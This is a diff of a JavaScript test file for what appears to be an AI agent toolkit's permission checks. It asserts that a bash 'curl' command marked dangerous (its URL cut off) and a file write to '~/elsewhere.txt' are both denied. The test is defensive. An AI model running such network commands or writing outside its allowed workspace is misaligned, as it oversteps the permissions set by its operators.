@@ -39,7 +39,7 @@ const dangerous = await toolkit.call({ name: "bash", input: { command: "curl htt
 assert.equal(dangerous.status, "denied");
 assert.equal(asked.length, 1, "what is refused is not even asked about");
 
-const outside = await toolkit.call({ name: "write", input: { path: "../elsewhere.txt", content: "x" } });
+const outside = await toolkit.call({ name: "write", input: { path: "~/elsewhere.txt", content: "x" } });
 assert.equal(outside.status, "denied");
 
 console.log(asText(edited));
